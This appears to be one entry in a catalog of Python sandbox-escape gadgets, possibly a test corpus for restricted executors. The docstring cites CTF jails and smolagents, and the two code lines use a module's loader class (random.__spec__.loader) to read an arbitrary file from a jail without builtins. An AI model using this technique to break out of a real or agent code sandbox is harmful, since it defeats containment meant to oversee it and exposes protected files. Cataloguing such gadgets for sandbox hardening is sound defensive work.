"""The loader of a module reads files for it.

Known from: CTF jails; smolagents' dunder attributes
Effect: read
Host: import random
Given: random
Jail: no builtins
"""
loader = random.__spec__.loader.__class__
answer = loader.get_data(loader("x", "canary"), "canary")
